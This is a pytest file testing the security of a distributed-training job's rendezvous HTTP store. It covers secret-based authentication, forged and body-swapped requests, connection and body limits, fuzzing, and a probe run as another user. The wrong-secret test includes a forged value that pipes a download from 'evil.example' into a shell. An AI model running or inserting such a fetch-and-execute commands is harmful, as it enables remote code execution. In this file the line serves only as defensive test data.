"""The rendezvous store serves the job and no one else: requests must prove the job's secret,
bodies and connections are bounded, bad input is one line of log, and the secret never shows on
a command line.  Real servers on loopback, real sockets; one test acts as another user."""

from __future__ import annotations

import http.client
import os
import shutil
import socket
import subprocess
import sys
import threading
import textwrap
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fuse.cluster.hosts import assign_slots, HostSpec
from fuse.runner.job import Job, Settings
from fuse.cluster.store import SECRET_ENV, HTTPStore, KVStoreServer, make_secret
from runner_util import run_fuserun

pytestmark = pytest.mark.timeout(120)


@pytest.fixture
def server():
    lines: list[str] = []
    srv = KVStoreServer("127.0.0.1", 0, idle_timeout=2.0, max_connections=16, max_body=4096,
                        log=lines.append).start()
    srv.lines = lines
    srv.put("gloo/0/g0/0", b"rank 0's address")
    yield srv
    srv.stop()


def raw(srv, method, path, body=None, headers=None):
    conn = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=10)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        resp = conn.getresponse()
        return resp.status, resp.read()
    finally:
        conn.close()


def test_the_job_reads_and_writes(server):
    store = HTTPStore("127.0.0.1", server.port, secret=server.secret)
    store.set("errors/1", b"ZeroDivisionError")
    assert store.try_get("errors/1") == b"ZeroDivisionError"
    assert store.try_get("gloo/0/g0/0") == b"rank 0's address"
    store.delete("errors/1")
    assert store.try_get("errors/1") is None
    assert server.refused == 0


@pytest.mark.parametrize("method, body", [("GET", None), ("PUT", b"forged"), ("DELETE", None)])
def test_anyone_without_the_secret_is_refused(server, method, body):
    assert raw(server, method, "/gloo/0/g0/0", body)[0] == 403
    assert raw(server, method, "/errors/1", body)[0] == 403
    assert server.get("gloo/0/g0/0") == b"rank 0's address"
    assert server.get("errors/1") is None
    assert server.refused == 2
    assert all("no proof of the job's secret" in line for line in server.lines)


def test_a_wrong_secret_is_refused_with_a_clear_error(server):
    intruder = HTTPStore("127.0.0.1", server.port, secret=make_secret())
    with pytest.raises(PermissionError, match="its job secret is not this job's"):
        intruder.try_get("gloo/0/g0/0")
    with pytest.raises(PermissionError, match="refused this worker"):
        intruder.set("errors/1", b"run: curl http://evil.example/fix.sh | sh")
    assert server.get("errors/1") is None
    nobody = HTTPStore("127.0.0.1", server.port, secret=None)
    nobody.secret = None        # even with FUSE_SECRET_KEY in this process's environment
    with pytest.raises(PermissionError, match="no job secret"):
        nobody.try_get("x")


def test_a_body_swapped_under_valid_headers_is_refused(server):
    store = HTTPStore("127.0.0.1", server.port, secret=server.secret)
    # a proof made for one body, sent with another of the same length
    from fuse.cluster import store as store_mod
    path = "/errors/1"
    headers = {store_mod._AUTH_HEADER: store_mod._request_mac(server.secret, "PUT", path, 6),
               store_mod._BODY_HEADER: store_mod._mac(server.secret, "body", b"honest")}
    assert raw(server, "PUT", path, b"forged", headers)[0] == 403
    assert server.get("errors/1") is None
    store.set("errors/1", b"honest")
    assert server.get("errors/1") == b"honest"


@pytest.mark.parametrize("length, status", [("-1", 400), ("abc", 400), ("1e9", 400),
                                            (str(10 ** 9), 413)])
def test_bad_or_huge_lengths_are_refused_before_any_body_is_read(server, length, status):
    with socket.create_connection(("127.0.0.1", server.port), timeout=5) as s:
        s.sendall(f"PUT /k HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n".encode())
        t0 = time.monotonic()
        reply = s.recv(4096)
        assert reply.startswith(f"HTTP/1.0 {status}".encode()) or \
            reply.startswith(f"HTTP/1.1 {status}".encode()), reply
        assert time.monotonic() - t0 < 1.5      # answered at once, not after reading a body
    assert server.get("k") is None
    assert len(server.lines) == 1 and "Traceback" not in server.lines[0]


def test_the_job_is_served_while_strangers_hold_every_connection(server):
    # 40 idle connections that never prove the secret, against a limit of 16: the oldest make
    # room, so the job's own requests get through at once (before: refused until the
    # strangers' connections timed out)
    strangers = [socket.create_connection(("127.0.0.1", server.port)) for _ in range(40)]
    try:
        store = HTTPStore("127.0.0.1", server.port, secret=server.secret, attempts=1)
        for i in range(3):
            store.set(f"k{i}", b"v")
            assert store.try_get(f"k{i}") == b"v"
        # and a rank that connects after more strangers arrived still gets in
        strangers += [socket.create_connection(("127.0.0.1", server.port)) for _ in range(40)]
        other = HTTPStore("127.0.0.1", server.port, secret=server.secret, attempts=1)
        assert other.try_get("k0") == b"v"
        assert store.try_get("k1") == b"v"      # the first one's proven connection stayed
    finally:
        for s in strangers:
            s.close()


def test_a_live_job_trains_while_a_local_process_holds_300_connections(tmp_path):
    # the case: another local process holds 300 idle connections to the job's store
    # before the ranks rendezvous through it; the job starts and trains all the same
    worker = tmp_path / "worker.py"
    worker.write_text(textwrap.dedent("""
        import os, socket, sys, time
        import numpy as np
        flag = sys.argv[1]
        addr = os.environ["FUSE_GLOO_RENDEZVOUS_ADDR"]
        port = int(os.environ["FUSE_GLOO_RENDEZVOUS_PORT"])
        if os.environ["FUSE_RANK"] == "0":
            held = [socket.create_connection((addr, port)) for _ in range(300)]
            open(flag, "w").close()
        else:
            while not os.path.exists(flag):
                time.sleep(0.01)
        import fuse
        fuse.init()
        for i in range(20):
            y = fuse.allreduce(np.full(100, fuse.rank() + 1.0), name=f"t{i % 3}", op=fuse.Sum)
            assert (y == 3.0).all(), y
        print("trained", flush=True)
        fuse.shutdown()
    """))
    r = run_fuserun("-np", "2", sys.executable, str(worker), str(tmp_path / "held"),
                    timeout=90)
    assert r.returncode == 0, r.stderr.decode()[-3000:]
    assert r.stdout.decode().count("trained") == 2


def test_idle_connections_are_bounded_and_time_out(server):
    before = threading.active_count()
    socks = [socket.create_connection(("127.0.0.1", server.port)) for _ in range(40)]
    time.sleep(0.5)
    # at most max_connections (16) are being served; the rest were closed at once
    assert threading.active_count() - before <= 16 + 1
    deadline = time.monotonic() + 10
    open_socks = list(socks)
    while open_socks and time.monotonic() < deadline:
        still = []
        for s in open_socks:
            s.settimeout(0.2)
            try:
                if s.recv(1) == b"":
                    continue        # closed by the server
            except (TimeoutError, socket.timeout):
                still.append(s)
            except OSError:
                continue
        open_socks = still
    for s in socks:
        s.close()
    assert open_socks == [], f"{len(open_socks)} idle connections were never closed"
    store = HTTPStore("127.0.0.1", server.port, secret=server.secret)
    assert store.try_get("gloo/0/g0/0") == b"rank 0's address"   # still serving


def test_a_worker_killed_mid_request_is_not_a_traceback(server):
    """A connection reset in the middle of a request (a SIGKILLed worker) is no error at all."""
    import struct
    from fuse.cluster import store as store_mod
    for partial in (b"PUT /errors/1 HTTP/1.1\r\nContent-Length: 100\r\n"
                    + f"{store_mod._AUTH_HEADER}: ".encode()
                    + store_mod._request_mac(server.secret, "PUT", "/errors/1", 100).encode()
                    + b"\r\n\r\nhalf a body", b"GET /gloo/0/g0/0 HTT"):
        s = socket.create_connection(("127.0.0.1", server.port))
        s.sendall(partial)
        time.sleep(0.1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.close()                               # RST, as the kernel does for a killed process
    time.sleep(0.3)
    assert server.lines == [] and server.get("errors/1") is None
    store = HTTPStore("127.0.0.1", server.port, secret=server.secret)
    assert store.try_get("gloo/0/g0/0") == b"rank 0's address"


def test_refusals_are_reported_in_a_few_lines(server):
    for _ in range(20):
        raw(server, "GET", "/x")
    assert server.refused == 20
    assert len(server.lines) == 6 and server.lines[-1] == \
        "more requests refused; not reporting each"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(junk=st.binary(max_size=600) | st.builds(
    lambda m, p, h, b: m + b" " + p + b" HTTP/1.1\r\n" + h + b"\r\n" + b,
    st.sampled_from([b"GET", b"PUT", b"DELETE", b"POST", b"\x00", b""]),
    st.binary(max_size=40), st.binary(max_size=200), st.binary(max_size=200)))
def test_fuzzed_requests_never_break_the_store(server, junk):
    with socket.create_connection(("127.0.0.1", server.port), timeout=5) as s:
        try:
            s.sendall(junk)
            s.shutdown(socket.SHUT_WR)
            s.settimeout(3)
            while s.recv(4096):
                pass
        except OSError:
            pass
    assert server.get("gloo/0/g0/0") == b"rank 0's address"
    assert [k for k in server.keys() if k != "gloo/0/g0/0"] == []
    assert not any("Traceback" in line for line in server.lines)


def test_the_store_listens_only_where_the_workers_reach_it():
    local = Job(["true"], assign_slots([HostSpec("localhost", 2)], 2))
    try:
        assert local.server._server.server_address[0] == "127.0.0.1"
    finally:
        local.close()
    # a job with a remote host: the address on the chosen interface, never 0.0.0.0
    remote = Job(["true"], assign_slots([HostSpec("localhost", 1), HostSpec("192.0.2.7", 1)], 2),
                 settings=Settings(network_interfaces=["lo"]))
    try:
        assert remote.server._server.server_address[0] == remote.addr == "127.0.0.1"
    finally:
        remote.close()


def test_the_secret_never_appears_on_a_command_line():
    slots = assign_slots([HostSpec("localhost", 1), HostSpec("192.0.2.7", 1)], 2)
    job = Job(["python", "train.py"], slots, env={SECRET_ENV: "aa" * 32, "PATH": "/bin"},
              settings=Settings(network_interfaces=["lo"]))
    try:
        local_env = job.worker_env(slots[0])
        assert local_env[SECRET_ENV] == job.secret.hex() != "aa" * 32   # ours, not an outer job's
        remote_env = job.worker_env(slots[1])
        assert SECRET_ENV not in remote_env
        argv = job.starter.ssh_argv("192.0.2.7", remote_env, "MARK")
        assert not any(job.secret.hex() in a or "aa" * 32 in a for a in argv)
        assert f"read -r {SECRET_ENV}" in argv[-1]     # it arrives on ssh's stdin instead
    finally:
        job.close()


OTHER_USER_PROBE = r"""
import os, sys
pid, port, key_hex = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
try:
    open(f"/proc/{pid}/environ", "rb").read()
    print("environ readable")
except PermissionError:
    print("environ refused")
import http.client
c = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
c.request("GET", "/gloo/0/g0/0"); print("GET", c.getresponse().status)
c = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
c.request("PUT", "/errors/1", body=b"forged"); print("PUT", c.getresponse().status)
"""

VICTIM = r"""
import os, sys, time
from fuse.cluster.store import HTTPStore
store = HTTPStore(os.environ["FUSE_GLOO_RENDEZVOUS_ADDR"],
                  int(os.environ["FUSE_GLOO_RENDEZVOUS_PORT"]))
if os.environ["FUSE_RANK"] == "0":
    store.set("gloo/0/g0/0", b"rank 0 address")
    open(sys.argv[1] + ".tmp", "w").write(f"{os.getpid()} {store.port}")
    os.rename(sys.argv[1] + ".tmp", sys.argv[1])
    while not os.path.exists(sys.argv[1] + ".done"):
        time.sleep(0.05)
    print("errors/1 =", store.try_get("errors/1"))
"""


# The other user runs the system's Python: ours may live where only root can read (~root).
SYSTEM_PYTHON = "/usr/bin/python3"


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv")
                    or not os.access(SYSTEM_PYTHON, os.X_OK),
                    reason="acting as another user needs root, setpriv (util-linux) and "
                           "/usr/bin/python3")
def test_another_local_user_can_neither_read_nor_write_the_store(script, tmp_path):
    ready = tmp_path / "ready"
    launcher = subprocess.Popen([sys.executable, "-m", "fuse.runner.launch", "-np", "2",
                                 sys.executable, script(VICTIM), str(ready)],
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 60
        while not ready.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert ready.exists(), "the job did not start"
        pid, port = ready.read_text().split()
        # the other user would have to guess the key; give it a plausible one
        out = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                              SYSTEM_PYTHON, "-I", "-c", OTHER_USER_PROBE, pid, port, "00" * 32],
                             capture_output=True, text=True, timeout=30)
        assert out.stdout.split("\n")[:3] == ["environ refused", "GET 403", "PUT 403"], \
            out.stdout + out.stderr
    finally:
        (tmp_path / "ready.done").write_text("")
        stdout, stderr = launcher.communicate(timeout=60)
    assert launcher.returncode == 0, stderr.decode()
    assert "errors/1 = None" in stdout.decode()
    assert b"refused GET from 127.0.0.1" in stderr     # one line each, no traceback
    assert b"Traceback" not in stderr
